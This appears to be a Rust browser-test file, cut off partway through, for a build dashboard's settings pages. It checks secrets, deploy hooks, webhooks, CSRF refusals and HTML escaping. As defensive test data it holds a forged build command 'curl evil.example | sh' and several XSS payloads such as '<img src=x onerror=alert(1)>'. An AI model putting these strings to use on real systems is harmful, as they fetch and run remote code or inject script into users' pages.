//! The dashboard's settings pages in a real headless Chromium (WebDriver): a Worker's triggers
//! (edit, build cache, purge), a trigger's environment variables (a secret's value never in a
//! page), deploy hooks (the URL shown once, then called for a real build), event subscriptions (the
//! secret shown once, deliveries of a real build to a real receiver, redelivery), what a read token
//! sees and what its forged forms change (nothing), attacker-controlled text rendered as text, and
//! a phone's width. Screenshots of each page go to `target/screenshots/settings-*.png`.

mod common;

use std::time::Duration;

use common::browser::{Browser, Viewport};
use common::receiver::{Behaviour, Receiver};
use common::*;
use kiln::cache::{BuildCache, CacheDir, CacheKind, CacheLimits, lockfile_key};
use kiln::domain::Permission;
use kiln::sandbox::SandboxMode;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const WORKER: &str = "site";
/// A secret variable's value: it must never be in a page.
const SECRET_VALUE: &str = "s3cret-VALUE-never-shown-7f31c9";
const HOSTILE: &str = "<script>alert(1)</script>";
/// A Worker name that is markup (Worker names cannot hold `/`).
const HOSTILE_WORKER: &str = "<img src=x onerror=alert(1)>";

/// The settings page of `worker`.
fn settings(worker: &str) -> String {
    format!("/accounts/{ACCOUNT}/workers/{}/settings", enc(worker))
}

/// A path segment percent-encoded.
fn enc(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The Worker's triggers as the API lists them.
async fn api_triggers(app: &TestApp, worker: &str) -> Vec<Value> {
    app.ok(
        Method::GET,
        &app.acct(&format!("/workers/{}/triggers", enc(worker))),
        None,
    )
    .await
    .as_array()
    .expect("triggers")
    .clone()
}

/// A trigger's variables as the API lists them.
async fn api_env(app: &TestApp, trigger: &str) -> Value {
    app.ok(
        Method::GET,
        &app.acct(&format!("/triggers/{trigger}/environment_variables")),
        None,
    )
    .await
}

/// Clears the field `css` and types `text` into it.
async fn fill(browser: &Browser, css: &str, text: &str) {
    let field = browser.find(css).await;
    field.clear().await.expect("clear the field");
    if !text.is_empty() {
        field.send_keys(text).await.expect("type into the field");
    }
}

async fn click(browser: &Browser, css: &str) {
    browser.find(css).await.click().await.expect("click");
}

/// The page at `path` as the server sends it (not as the browser re-serialises it), fetched with
/// the browser's session cookie.
async fn raw_html(browser: &Browser, path: &str) -> (StatusCode, String) {
    let cookie = browser.cookie("kiln_session").await.expect("a session");
    let resp = reqwest::Client::new()
        .get(browser.url(path))
        .header("cookie", format!("kiln_session={cookie}"))
        .header("accept", "text/html")
        .send()
        .await
        .expect("get the page");
    let status = resp.status();
    (status, resp.text().await.expect("page text"))
}

/// The CSRF token of the browser's session (every page's sign-out form carries it).
async fn csrf(browser: &Browser) -> String {
    browser
        .find("input[name=csrf]")
        .await
        .attr("value")
        .await
        .expect("csrf attribute")
        .expect("csrf value")
}

/// The value of the field `css`.
async fn value_of(browser: &Browser, css: &str) -> String {
    browser
        .find(css)
        .await
        .prop("value")
        .await
        .expect("value property")
        .unwrap_or_default()
}

/// A form POSTed outside the browser with the session `cookie`, `fields` (urlencoded) and, if
/// given, an `Origin`; the status (redirects are not followed).
async fn forge<K: AsRef<str>, V: AsRef<str>>(
    base: &str,
    cookie: &str,
    path: &str,
    fields: &[(K, V)],
    origin: Option<&str>,
) -> StatusCode {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client");
    let body = form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields.iter().map(|(k, v)| (k.as_ref(), v.as_ref())))
        .finish();
    let mut req = client
        .post(format!("{base}{path}"))
        .header("cookie", format!("kiln_session={cookie}"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body);
    if let Some(origin) = origin {
        req = req.header("origin", origin);
    }
    req.send().await.expect("send the forged form").status()
}

/// A build cache entry for `trigger`, written as the runner writes one, in the server's cache.
async fn cache_entry(app: &TestApp, trigger: &str) -> BuildCache {
    let cache = BuildCache::open(app.data_dir().join("cache"), CacheLimits::default())
        .expect("open the build cache");
    let src = app.dir.path().join("cached-deps");
    std::fs::create_dir_all(&src).expect("mkdir");
    std::fs::write(src.join("module.js"), "x").expect("write");
    let src = src.canonicalize().expect("canonical");
    let dirs = [CacheDir {
        name: "home/.npm".into(),
        path: src,
    }];
    let key = lockfile_key(&[("package-lock.json", b"{}")]);
    cache
        .save(trigger, CacheKind::Dependencies, &key, &dirs)
        .await
        .expect("save a cache entry");
    assert_eq!(cache.entries(trigger).await.expect("entries").len(), 1);
    cache
}

/// Edits a trigger through its form (build command, branch filters, build cache), sees the
/// change through the API, is shown its own input and the API's message for an invalid field (400,
/// nothing saved), and purges the build cache for real.
#[tokio::test]
async fn a_trigger_is_edited_and_its_build_cache_purged() {
    let app = TestApp::spawn().await;
    let f = app.fixture(WORKER).await;
    let t = &f.trigger;
    let cache = cache_entry(&app, t).await;

    let browser = Browser::open(&app.base).await;
    browser.sign_in(ADMIN_TOKEN).await;
    browser.goto(&settings(WORKER)).await;
    let summary = browser.text(&format!("#trigger-{t}")).await;
    for shown in [
        "Production Deploy",
        "octo-org/site-repo",
        "npm run build",
        "npx wrangler deploy",
        "main",
        "*.md",
        "off",
    ] {
        assert!(summary.contains(shown), "{shown:?} not in {summary}");
    }
    browser.screenshot("settings-triggers").await;

    click(&browser, &format!("#edit-{t}")).await;
    fill(
        &browser,
        &format!("#build-{t}"),
        "npm ci && npm run build:prod",
    )
    .await;
    fill(&browser, &format!("#bi-{t}"), "main\nrelease/*\n").await;
    fill(&browser, &format!("#be-{t}"), "release/old").await;
    fill(&browser, &format!("#pe-{t}"), "").await;
    click(&browser, &format!("#cache-{t}")).await;
    browser.screenshot("settings-trigger-edit").await;
    click(&browser, &format!("#form-{t} button[type=submit]")).await;
    browser.wait_text(".flash", "saved").await;

    let saved = api_triggers(&app, WORKER).await;
    let saved = &saved[0];
    assert_eq!(saved["build_command"], "npm ci && npm run build:prod");
    assert_eq!(saved["branch_includes"], json!(["main", "release/*"]));
    assert_eq!(saved["branch_excludes"], json!(["release/old"]));
    assert_eq!(saved["path_includes"], json!(["*"]));
    assert_eq!(saved["path_excludes"], json!([]));
    assert_eq!(saved["build_caching_enabled"], true);
    assert_eq!(saved["deploy_command"], "npx wrangler deploy", "kept");
    assert_eq!(saved["trigger_name"], "Production Deploy", "kept");
    assert!(
        browser
            .text(&format!("#trigger-{t}"))
            .await
            .contains("release/*")
    );

    // An invalid field: the API's message next to the form, what was typed kept, nothing saved.
    click(&browser, &format!("#edit-{t}")).await;
    fill(&browser, &format!("#root-{t}"), "../outside").await;
    fill(&browser, &format!("#build-{t}"), "make site").await;
    click(&browser, &format!("#form-{t} button[type=submit]")).await;
    let error = browser.text(&format!("#error-{t}")).await;
    assert!(
        error.contains("root_directory") && error.contains(".."),
        "{error}"
    );
    assert_eq!(
        value_of(&browser, &format!("#root-{t}")).await,
        "../outside"
    );
    assert_eq!(
        value_of(&browser, &format!("#build-{t}")).await,
        "make site"
    );
    browser.screenshot("settings-trigger-error").await;
    let after = api_triggers(&app, WORKER).await;
    assert_eq!(after[0]["build_command"], "npm ci && npm run build:prod");
    assert_eq!(after[0]["root_directory"], "/");

    // Build cache off again, then purged.
    browser.goto(&settings(WORKER)).await;
    click(&browser, &format!("#edit-{t}")).await;
    click(&browser, &format!("#cache-{t}")).await;
    click(&browser, &format!("#form-{t} button[type=submit]")).await;
    browser.wait_text(".flash", "saved").await;
    assert_eq!(
        api_triggers(&app, WORKER).await[0]["build_caching_enabled"],
        false
    );
    click(&browser, &format!("#purge-{t}")).await;
    browser.wait_text(".flash", "purged").await;
    assert!(
        cache.entries(t).await.expect("entries").is_empty(),
        "the trigger's cache entries are gone"
    );
    browser.screenshot("settings-trigger-purged").await;
    browser.close().await;
}

/// A secret variable's value is in no page after it is saved (nor after a refused form that carried
/// it); a plain variable's value is shown; variables are deleted.
#[tokio::test]
async fn a_secret_variable_is_never_shown_and_a_plain_one_is() {
    let app = TestApp::spawn().await;
    let f = app.fixture(WORKER).await;
    let env = format!(
        "/accounts/{ACCOUNT}/workers/{WORKER}/triggers/{}/env",
        f.trigger
    );
    let browser = Browser::open(&app.base).await;
    browser.sign_in(ADMIN_TOKEN).await;
    browser.goto(&settings(WORKER)).await;
    click(&browser, &format!("#trigger-{} .actions a", f.trigger)).await;
    browser.wait_text("h1", "Variables of trigger").await;
    assert_eq!(browser.path().await, env);

    // The value field is a password field while "Secret" is ticked (the default).
    assert_eq!(
        browser.find("#env-value").await.attr("type").await.unwrap(),
        Some("password".into())
    );
    fill(&browser, "#env-key", "API_TOKEN").await;
    fill(&browser, "#env-value", SECRET_VALUE).await;
    click(&browser, "#env-form button[type=submit]").await;
    browser.wait_text(".flash", "Secret API_TOKEN saved").await;
    let vars = api_env(&app, &f.trigger).await;
    assert_eq!(vars["API_TOKEN"]["is_secret"], true, "{vars}");
    let row = browser.text("#env-vars").await;
    assert!(row.contains("API_TOKEN") && row.contains("set"), "{row}");

    // A plain one: untick "Secret" (the field shows its text then).
    fill(&browser, "#env-key", "NODE_VERSION").await;
    click(&browser, "#env-secret").await;
    assert_eq!(
        browser.find("#env-value").await.attr("type").await.unwrap(),
        Some("text".into())
    );
    fill(&browser, "#env-value", "22.11.0").await;
    click(&browser, "#env-form button[type=submit]").await;
    browser
        .wait_text(".flash", "Variable NODE_VERSION saved")
        .await;
    assert!(browser.text("#env-vars").await.contains("22.11.0"));
    assert_eq!(
        api_env(&app, &f.trigger).await["NODE_VERSION"]["value"],
        "22.11.0"
    );
    browser.screenshot("settings-env").await;

    // A refused form carrying a secret: the API's message, the name kept, the secret not sent back.
    fill(&browser, "#env-key", "1BAD-NAME").await;
    fill(&browser, "#env-value", SECRET_VALUE).await;
    browser
        .client
        .execute(
            "document.getElementById('env-key').removeAttribute('pattern')",
            vec![],
        )
        .await
        .expect("let the browser send an invalid name");
    click(&browser, "#env-form button[type=submit]").await;
    let error = browser.text("#env-error").await;
    assert!(error.contains("must match"), "{error}");
    assert_eq!(value_of(&browser, "#env-key").await, "1BAD-NAME");
    assert_eq!(value_of(&browser, "#env-value").await, "");
    assert!(!browser.source().await.contains(SECRET_VALUE));
    browser.screenshot("settings-env-error").await;

    // Nowhere: neither in what the browser shows nor in what the server sends, on any page.
    for path in [
        env.clone(),
        settings(WORKER),
        format!("/accounts/{ACCOUNT}/workers/{WORKER}/deploy-hooks"),
        format!("/accounts/{ACCOUNT}/subscriptions"),
    ] {
        browser.goto(&path).await;
        assert!(!browser.source().await.contains(SECRET_VALUE), "{path}");
        let (status, html) = raw_html(&browser, &path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(!html.contains(SECRET_VALUE), "{path}: {html}");
    }
    browser.goto(&settings(WORKER)).await;
    assert!(
        browser
            .text(&format!("#trigger-{}", f.trigger))
            .await
            .contains("1 plain, 1 secret")
    );

    // Turned plain without a new value: refused (a secret is never revealed); deleted.
    browser.goto(&env).await;
    fill(&browser, "#env-key", "API_TOKEN").await;
    click(&browser, "#env-secret").await;
    click(&browser, "#env-form button[type=submit]").await;
    assert!(
        browser
            .text("#env-error")
            .await
            .contains("only with a new value")
    );
    assert_eq!(
        api_env(&app, &f.trigger).await["API_TOKEN"]["is_secret"],
        true
    );
    click(&browser, "#env-vars tr:first-child button").await;
    browser.wait_text(".flash", "API_TOKEN deleted").await;
    let vars = api_env(&app, &f.trigger).await;
    assert!(vars.get("API_TOKEN").is_none(), "{vars}");
    assert!(vars.get("NODE_VERSION").is_some(), "{vars}");
    browser.close().await;
}

/// A deploy hook's URL is shown once, on the page that answers its creation (with a copy button);
/// it then builds when POSTed to; later pages never show it; deleting the hook stops it.
#[tokio::test]
async fn a_deploy_hook_url_is_shown_once_and_builds() {
    let app = TestApp::spawn().await;
    app.fixture(WORKER).await;
    let hooks = format!("/accounts/{ACCOUNT}/workers/{WORKER}/deploy-hooks");
    let browser = Browser::open(&app.base).await;
    browser.sign_in(ADMIN_TOKEN).await;
    browser.goto(&settings(WORKER)).await;
    click(&browser, "a[href$='/deploy-hooks']").await;
    browser.wait_text("h1", "Deploy hooks of").await;
    fill(&browser, "#hook-name", "CMS publish").await;
    fill(&browser, "#hook-branch", "main").await;
    click(&browser, "#hook-form button[type=submit]").await;
    let url = value_of(&browser, "#hook-url").await;
    let listed = app
        .ok(
            Method::GET,
            &app.acct(&format!("/workers/{WORKER}/deploy_hooks")),
            None,
        )
        .await;
    let id = s(&listed[0]["deploy_hook_uuid"]);
    assert_eq!(
        url,
        format!("{}/client/v4/workers/builds/deploy_hooks/{id}", app.base)
    );
    // The copy button is there with JavaScript and says what it did.
    click(&browser, "button[data-copy=hook-url]").await;
    browser
        .eventually("the copy button answers", || async {
            let status = browser.text("#hook-url-status").await;
            (!status.is_empty()).then_some(())
        })
        .await;
    browser.screenshot("settings-hook-created").await;

    // Shown once: the hooks page and the settings page do not have it.
    browser.goto(&hooks).await;
    assert!(browser.text("#hooks").await.contains("CMS publish"));
    assert!(browser.text("#hooks").await.contains("never"));
    for path in [hooks.clone(), settings(WORKER)] {
        let (_, html) = raw_html(&browser, &path).await;
        assert!(!html.contains(&id), "{path}: the hook id is shown again");
    }

    // The URL builds, without credentials.
    let resp = reqwest::Client::new()
        .post(&url)
        .send()
        .await
        .expect("call the hook");
    assert_eq!(resp.status(), StatusCode::OK);
    let called: Value = resp.json().await.expect("json");
    let build = get_build(&app, &s(&called["result"]["build_uuid"])).await;
    assert_eq!(
        build["build_trigger_metadata"]["build_trigger_source"],
        "deploy_hook"
    );
    assert_eq!(build["status"], "queued");
    browser.goto(&hooks).await;
    assert!(!browser.text("#hooks").await.contains("never"));
    browser.screenshot("settings-hooks").await;

    // A second hook with the same name: the API's conflict next to the form, the input kept.
    fill(&browser, "#hook-name", "CMS publish").await;
    fill(&browser, "#hook-branch", "main").await;
    click(&browser, "#hook-form button[type=submit]").await;
    assert!(
        browser
            .text("#hook-error")
            .await
            .contains("already has a deploy hook")
    );
    assert_eq!(value_of(&browser, "#hook-name").await, "CMS publish");

    // Deleted: its URL no longer builds.
    browser.goto(&hooks).await;
    click(&browser, "#hooks button.danger").await;
    browser.wait_text(".flash", "deleted").await;
    assert!(!browser.has("#hooks").await);
    let resp = reqwest::Client::new()
        .post(&url)
        .send()
        .await
        .expect("call the hook");
    assert_eq!(resp.status(), StatusCode::NOT_FOUND);
    browser.close().await;
}

/// A subscription made in the dashboard gets its generated secret shown once; the events of a real
/// build reach a real receiver, which verifies them with that secret; a failed delivery is listed
/// with its status, response code, attempts and error, and redelivered from the page; the
/// subscription is disabled, enabled and deleted.
#[tokio::test]
async fn a_subscription_shows_its_secret_once_and_its_deliveries() {
    let app = spawn_runner(SandboxMode::None, |c| {
        c.notifications.retry.base = Duration::from_millis(50);
        c.notifications.retry.cap = Duration::from_millis(200);
        c.notifications.retry.window = Duration::from_millis(1500);
    })
    .await;
    let f = app.fixture(WORKER).await;
    commit_files(&app, WORKER, &[("index.js", "x")], "Add the site");
    set_commands(&app, &f.trigger, "", "echo deployed").await;
    let receiver = Receiver::start("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Behaviour::Fail).await;

    let browser = Browser::open(&app.base).await;
    browser.sign_in(ADMIN_TOKEN).await;
    browser.goto(&settings(WORKER)).await;
    click(&browser, "a[href$='/subscriptions']").await;
    browser.wait_text("h1", "Event subscriptions").await;
    fill(&browser, "#sub-name", "Deploy alerts").await;
    fill(&browser, "#sub-url", &receiver.url).await;
    fill(&browser, "#sub-workers", WORKER).await;
    click(&browser, "#event-succeeded").await;
    click(&browser, "#subscription-form button[type=submit]").await;
    let secret = value_of(&browser, "#subscription-secret").await;
    assert!(secret.starts_with("whsec_"), "{secret}");
    receiver.set_secret(&secret);
    browser.screenshot("settings-subscription-created").await;
    let subs = app
        .ok(Method::GET, &app.acct("/event_subscriptions"), None)
        .await;
    assert_eq!(
        subs[0]["event_types"],
        json!(["cf.workersBuilds.worker.build.succeeded"])
    );
    assert_eq!(subs[0]["worker_names"], json!([WORKER]));
    let id = s(&subs[0]["id"]);
    let page = format!("/accounts/{ACCOUNT}/subscriptions/{id}");
    browser
        .goto(&format!("/accounts/{ACCOUNT}/subscriptions"))
        .await;
    assert!(
        browser
            .text("#subscriptions")
            .await
            .contains("Deploy alerts")
    );
    for path in [format!("/accounts/{ACCOUNT}/subscriptions"), page.clone()] {
        let (_, html) = raw_html(&browser, &path).await;
        assert!(!html.contains(&secret), "{path}: the secret is shown again");
    }
    browser.screenshot("settings-subscriptions").await;

    // A real build: its `succeeded` event is refused by the receiver until the window ends.
    let build = queue(&app, &f.trigger, json!({"branch": "main"})).await;
    assert_eq!(wait_stopped(&app, &build).await["build_outcome"], "success");
    browser.goto(&page).await;
    browser
        .eventually("the delivery failed for good", || async {
            browser.goto(&page).await;
            let table = browser.text("#deliveries").await;
            table.contains("failed").then_some(table)
        })
        .await;
    let table = browser.text("#deliveries").await;
    for shown in ["succeeded", &build, "503", "HTTP 503"] {
        assert!(table.contains(shown), "{shown:?} not in {table}");
    }
    browser.screenshot("settings-subscription-failed").await;

    // Redelivered from the page: accepted, with a signature the secret shown verifies.
    receiver.set(Behaviour::Accept);
    click(&browser, "#deliveries button").await;
    browser.wait_text(".flash", "queued again").await;
    let accepted = receiver
        .wait_until("the redelivered event", Duration::from_secs(30), |got| {
            got.iter().any(|r| r.accepted())
        })
        .await;
    let delivered = accepted.iter().find(|r| r.accepted()).expect("accepted");
    assert!(delivered.verified, "signed with the secret shown once");
    assert_eq!(delivered.build(), build);
    browser
        .eventually("the delivery shows as delivered", || async {
            browser.goto(&page).await;
            let table = browser.text("#deliveries").await;
            table.contains("delivered").then_some(())
        })
        .await;
    assert!(browser.text("#deliveries").await.contains("200"));
    browser.screenshot("settings-subscription").await;

    // Disable, enable, delete.
    click(&browser, "#toggle-subscription").await;
    browser.wait_text(".flash", "disabled").await;
    let one = app
        .ok(
            Method::GET,
            &app.acct(&format!("/event_subscriptions/{id}")),
            None,
        )
        .await;
    assert_eq!(one["enabled"], false);
    click(&browser, "#toggle-subscription").await;
    browser.wait_text(".flash", "enabled").await;
    let one = app
        .ok(
            Method::GET,
            &app.acct(&format!("/event_subscriptions/{id}")),
            None,
        )
        .await;
    assert_eq!(one["enabled"], true);
    click(&browser, ".actions button.danger").await;
    browser.wait_text(".flash", "deleted").await;
    assert_eq!(
        browser.path().await,
        format!("/accounts/{ACCOUNT}/subscriptions")
    );
    let (status, _) = app
        .get(&app.acct(&format!("/event_subscriptions/{id}")))
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // A refused form: the API's message, the input kept.
    fill(&browser, "#sub-name", "Bad one").await;
    fill(&browser, "#sub-url", "ftp://example.com/x").await;
    click(&browser, "#subscription-form button[type=submit]").await;
    assert!(browser.text("#subscription-error").await.contains("url"));
    assert_eq!(value_of(&browser, "#sub-url").await, "ftp://example.com/x");
    browser.close().await;
}

/// Everything a forged form could change, read through the API and the build cache.
async fn snapshot(app: &TestApp, trigger: &str, subscription: &str) -> Value {
    let get = |path: String| async move { app.ok(Method::GET, &app.acct(&path), None).await };
    json!({
        "triggers": get(format!("/workers/{WORKER}/triggers")).await,
        "env": get(format!("/triggers/{trigger}/environment_variables")).await,
        "hooks": get(format!("/workers/{WORKER}/deploy_hooks")).await,
        "subscriptions": get("/event_subscriptions".into()).await,
        "deliveries": get(format!("/event_subscriptions/{subscription}/deliveries")).await,
    })
}

/// A read token sees every settings page with no form or button; its forged forms (with the CSRF
/// token, without it, from another origin) are refused and change nothing, and so are a write
/// token's forms without the CSRF token or from another origin.
#[tokio::test]
async fn a_read_token_sees_no_controls_and_forged_forms_change_nothing() {
    let app = TestApp::spawn().await;
    let f = app.fixture(WORKER).await;
    let t = &f.trigger;
    let cache = cache_entry(&app, t).await;
    app.ok(
        Method::PATCH,
        &app.acct(&format!("/triggers/{t}/environment_variables")),
        Some(json!({"NODE_VERSION": {"is_secret": false, "value": "20"},
                    "API_TOKEN": {"is_secret": true, "value": SECRET_VALUE}})),
    )
    .await;
    app.ok(
        Method::POST,
        &app.acct(&format!("/workers/{WORKER}/deploy_hooks")),
        Some(json!({"deploy_hook_name": "cms", "branch": "main"})),
    )
    .await;
    let receiver =
        Receiver::start("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", Behaviour::Accept).await;
    let sub = app
        .ok(
            Method::POST,
            &app.acct("/event_subscriptions"),
            Some(json!({"name": "events", "url": receiver.url,
                        "secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"})),
        )
        .await;
    let sub = s(&sub["id"]);
    // A delivery: the event of a build cancelled while queued, delivered.
    let build = queue(&app, t, json!({"commit_hash": "0".repeat(40)})).await;
    app.ok(
        Method::PUT,
        &app.acct(&format!("/builds/{build}/cancel")),
        None,
    )
    .await;
    receiver
        .wait_until("the cancelled event", Duration::from_secs(30), |got| {
            got.iter().any(|r| r.accepted())
        })
        .await;
    let deliveries = app.acct(&format!("/event_subscriptions/{sub}/deliveries"));
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let delivery = loop {
        let list = app.ok(Method::GET, &deliveries, None).await;
        if list[0]["status"] == "delivered" {
            break s(&list[0]["id"]);
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the delivery is not recorded as delivered: {list}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let before = snapshot(&app, t, &sub).await;

    let reader = app.mint_token(Some(&[ACCOUNT]), Permission::Read).await;
    let browser = Browser::open(&app.base).await;
    browser.sign_in(&reader).await;
    let worker = format!("/accounts/{ACCOUNT}/workers/{WORKER}");
    let pages = [
        settings(WORKER),
        format!("{worker}/triggers/{t}/env"),
        format!("{worker}/deploy-hooks"),
        format!("/accounts/{ACCOUNT}/subscriptions"),
        format!("/accounts/{ACCOUNT}/subscriptions/{sub}"),
    ];
    for (i, path) in pages.iter().enumerate() {
        browser.goto(path).await;
        browser.find("main h1").await;
        for control in [
            "main form",
            "main button",
            "main input",
            "main textarea",
            "main details",
        ] {
            assert!(
                !browser.has(control).await,
                "{path}: a read token sees {control}"
            );
        }
        assert!(!browser.source().await.contains(SECRET_VALUE), "{path}");
        browser.screenshot(&format!("settings-read-only-{i}")).await;
    }
    browser.goto(&pages[1]).await;
    assert!(browser.text("#env-vars").await.contains("20"));
    browser.goto(&pages[4]).await;
    assert!(browser.text("#deliveries").await.contains("delivered"));

    let reader_cookie = browser.cookie("kiln_session").await.expect("session");
    let reader_csrf = csrf(&browser).await;
    let admin = Browser::open(&app.base).await;
    admin.sign_in(ADMIN_TOKEN).await;
    admin.goto(&settings(WORKER)).await;
    let admin_cookie = admin.cookie("kiln_session").await.expect("session");
    let admin_csrf = csrf(&admin).await;

    let trigger_form = [
        ("trigger_name", "forged"),
        ("build_command", "curl evil.example | sh"),
        ("deploy_command", "x"),
        ("root_directory", "/"),
        ("branch_includes", "*"),
        ("branch_excludes", ""),
        ("path_includes", "*"),
        ("path_excludes", ""),
    ];
    let forms: Vec<(String, Vec<(&str, &str)>)> = vec![
        (format!("{worker}/triggers/{t}"), trigger_form.to_vec()),
        (format!("{worker}/triggers/{t}/purge-cache"), vec![]),
        (
            format!("{worker}/triggers/{t}/env"),
            vec![("key", "NODE_VERSION"), ("value", "1")],
        ),
        (
            format!("{worker}/triggers/{t}/env/API_TOKEN/delete"),
            vec![],
        ),
        (
            format!("{worker}/deploy-hooks"),
            vec![("name", "forged"), ("branch", "main")],
        ),
        (
            format!("{worker}/deploy-hooks/delete"),
            vec![("name", "cms")],
        ),
        (
            format!("/accounts/{ACCOUNT}/subscriptions"),
            vec![("name", "forged"), ("url", "https://evil.example/")],
        ),
        (
            format!("/accounts/{ACCOUNT}/subscriptions/{sub}/enabled"),
            vec![("enabled", "false")],
        ),
        (
            format!("/accounts/{ACCOUNT}/subscriptions/{sub}/delete"),
            vec![],
        ),
        (
            format!("/accounts/{ACCOUNT}/subscriptions/{sub}/deliveries/{delivery}/redeliver"),
            vec![],
        ),
    ];
    for (path, fields) in &forms {
        let with = |csrf: &str| {
            let mut all: Vec<(String, String)> = fields
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect();
            all.push(("csrf".to_owned(), csrf.to_owned()));
            all
        };
        let bare = with("");
        let bare = &bare[..bare.len() - 1];
        for (cookie, body, origin, who) in [
            (
                &reader_cookie,
                with(&reader_csrf),
                None,
                "read token with its CSRF token",
            ),
            (
                &reader_cookie,
                bare.to_vec(),
                None,
                "read token without a CSRF token",
            ),
            (
                &reader_cookie,
                with(&reader_csrf),
                Some("http://evil.example"),
                "read token from another origin",
            ),
            (
                &admin_cookie,
                bare.to_vec(),
                None,
                "write token without a CSRF token",
            ),
            (
                &admin_cookie,
                with("not-the-token"),
                None,
                "write token with a wrong CSRF token",
            ),
            (
                &admin_cookie,
                with(&admin_csrf),
                Some("http://evil.example"),
                "write token from another origin",
            ),
        ] {
            let status = forge(&app.base, cookie, path, &body, origin).await;
            assert_eq!(status, StatusCode::FORBIDDEN, "{who}: POST {path}");
        }
    }
    assert_eq!(
        snapshot(&app, t, &sub).await,
        before,
        "a forged form changed something"
    );
    assert_eq!(
        cache.entries(t).await.expect("entries").len(),
        1,
        "cache purged"
    );

    // The same write token's form from its page works (the refusals were not for another reason).
    let status = forge(
        &app.base,
        &admin_cookie,
        &format!("{worker}/triggers/{t}/purge-cache"),
        &[("csrf", &admin_csrf)],
        Some(&app.base),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert!(cache.entries(t).await.expect("entries").is_empty());
    browser.close().await;
    admin.close().await;
}

/// Attacker-controlled names, commands, patterns, values and URLs render as text on every settings
/// page (escaped in what the server sends, no script runs, no element made of them), and forms of a
/// Worker whose name is markup work.
#[tokio::test]
async fn hostile_strings_render_as_text() {
    let app = TestApp::spawn().await;
    let f = app.fixture(WORKER).await;
    let t = app
        .trigger(
            HOSTILE_WORKER,
            &f.connection,
            &f.token,
            json!({"trigger_name": HOSTILE, "build_command": "<script>alert(2)</script>",
                   "branch_includes": ["<b>main</b>"], "path_excludes": ["<i>docs</i>"]}),
        )
        .await;
    app.ok(
        Method::PATCH,
        &app.acct(&format!("/triggers/{t}/environment_variables")),
        Some(json!({"GREETING": {"is_secret": false, "value": "<script>alert(3)</script>"}})),
    )
    .await;
    app.ok(
        Method::POST,
        &app.acct(&format!("/workers/{}/deploy_hooks", enc(HOSTILE_WORKER))),
        Some(json!({"deploy_hook_name": "<script>alert(4)</script>", "branch": "<script>alert(5)</script>"})),
    )
    .await;
    let sub = app
        .ok(
            Method::POST,
            &app.acct("/event_subscriptions"),
            Some(json!({"name": "<script>alert(6)</script>",
                        "url": "https://example.com/<script>alert(7)</script>?q=\"'><b>",
                        "worker_names": [HOSTILE_WORKER]})),
        )
        .await;
    let sub = s(&sub["id"]);

    let browser = Browser::open(&app.base).await;
    browser.sign_in(ADMIN_TOKEN).await;
    let worker = format!("/accounts/{ACCOUNT}/workers/{}", enc(HOSTILE_WORKER));
    for path in [
        settings(HOSTILE_WORKER),
        format!("{worker}/triggers/{t}/env"),
        format!("{worker}/deploy-hooks"),
        format!("/accounts/{ACCOUNT}/subscriptions"),
        format!("/accounts/{ACCOUNT}/subscriptions/{sub}"),
    ] {
        browser.goto(&path).await;
        browser.find("main h1").await;
        assert!(!browser.alert_open().await, "{path}: a script ran");
        let injected: Value = browser
            .client
            .execute(
                "return [document.querySelectorAll('script:not([src])').length, \
                 document.querySelectorAll('img, main b, main i').length]",
                vec![],
            )
            .await
            .expect("count elements");
        assert_eq!(
            injected,
            json!([0, 0]),
            "{path}: markup from data became elements"
        );
        let (status, html) = raw_html(&browser, &path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        for raw in ["<script>alert", "<img src=x", "<b>main", "<i>docs", "<b>\""] {
            assert!(!html.contains(raw), "{path}: {raw:?} unescaped");
        }
        // Escaped (askama writes `<` as `&#60;`).
        assert!(
            html.contains("&#60;script&#62;alert") || html.contains("&lt;script&gt;alert"),
            "{path}: the hostile text is missing"
        );
    }
    browser.goto(&settings(HOSTILE_WORKER)).await;
    let heading = browser.text("h1").await;
    assert!(heading.contains(HOSTILE_WORKER), "{heading}");
    let card = browser.text(&format!("#trigger-{t}")).await;
    for text in [
        HOSTILE,
        "<script>alert(2)</script>",
        "<b>main</b>",
        "<i>docs</i>",
    ] {
        assert!(card.contains(text), "{text:?} not shown as text in {card}");
    }
    browser.screenshot("settings-hostile").await;

    // The forms of this Worker post to and come back to its encoded path.
    click(&browser, &format!("#edit-{t}")).await;
    fill(&browser, &format!("#deploy-{t}"), "echo '<b>deployed</b>'").await;
    click(&browser, &format!("#form-{t} button[type=submit]")).await;
    browser.wait_text(".flash", "saved").await;
    assert!(browser.text(".flash").await.contains(HOSTILE));
    assert_eq!(browser.path().await, settings(HOSTILE_WORKER));
    assert_eq!(
        api_triggers(&app, HOSTILE_WORKER).await[0]["deploy_command"],
        "echo '<b>deployed</b>'"
    );
    browser.goto(&format!("{worker}/deploy-hooks")).await;
    assert!(
        browser
            .text("#hooks")
            .await
            .contains("<script>alert(4)</script>")
    );
    browser.screenshot("settings-hostile-hooks").await;
    click(&browser, "#hooks button.danger").await;
    browser.wait_text(".flash", "deleted").await;
    assert!(
        browser
            .text(".flash")
            .await
            .contains("<script>alert(4)</script>")
    );
    let hooks = app
        .ok(
            Method::GET,
            &app.acct(&format!("/workers/{}/deploy_hooks", enc(HOSTILE_WORKER))),
            None,
        )
        .await;
    assert_eq!(hooks, json!([]));
    browser
        .goto(&format!("/accounts/{ACCOUNT}/subscriptions/{sub}"))
        .await;
